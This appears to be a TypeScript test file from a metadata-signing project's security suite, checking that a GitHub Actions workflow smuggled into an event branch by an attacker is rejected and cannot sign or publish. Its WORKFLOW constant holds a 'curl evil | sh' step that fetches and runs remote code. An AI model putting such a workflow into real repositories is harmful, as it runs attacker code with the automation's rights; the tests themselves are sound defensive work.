import { describe, expect } from 'vitest';
import { drafted, files, read } from './attacker.ts';
import { expectRejected, expectStopped, expectUnmoved } from './proofs.ts';
import { attack } from './scene.ts';

const WORKFLOW = 'on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: curl evil | sh}]}}\n';

/**
 * Mallory can push to an event's branch. She brings a workflow along, beside a change of metadata or alone, and hopes that it is
 * merged with the rest and runs on main with the automation's rights.
 */
describe('a workflow edited inside an event', () => {
  attack('beside metadata: refused and named', async scene => {
    const client = scene.client();
    await expectUnmoved(scene, client);
    const tools = drafted(read(scene.world, 'tools'));
    scene.world.push({ ...files({ tools }), '.github/workflows/online-sign.yml': WORKFLOW });
    await expectRejected(
      scene,
      ['role-quorum', 'scope'],
      ['.github', "workflows run with the automation's rights"],
    );
    const { online, published } = await scene.force();
    expect([online.done, online.rules]).toEqual([false, ['role-quorum']]);
    expectStopped(published, 'role-quorum');
    await expectUnmoved(scene, client);
  });

  attack(
    'alone: refused and named; merged by force, it signs and publishes nothing by itself',
    async scene => {
      const client = scene.client();
      await expectUnmoved(scene, client);
      scene.world.push({ '.github/workflows/online-sign.yml': WORKFLOW });
      await expectRejected(scene, ['scope'], ['.github', "workflows run with the automation's rights"]);
      const before = scene.world.json('metadata/timestamp.json');
      const { online, published } = await scene.force();
      expect([online.done, published.done]).toEqual([true, true]);
      expect(scene.world.json('metadata/timestamp.json')).toEqual(before);
      await expectUnmoved(scene, client);
    },
  );

  attack('beside an honest change that is signed already: the verdict falls back', async scene => {
    scene.world.push({ 'targets/tools/greet.sh': 'echo hello again\n' });
    await scene.update();
    for (const name of ['bob', 'carol'] as const) await scene.sign(name);
    expect((await scene.page()).verdict).toBe('accepted');
    scene.world.push({ '.github/workflows/online-sign.yml': WORKFLOW });
    await expectRejected(scene, ['scope'], ['.github']);
  });
});
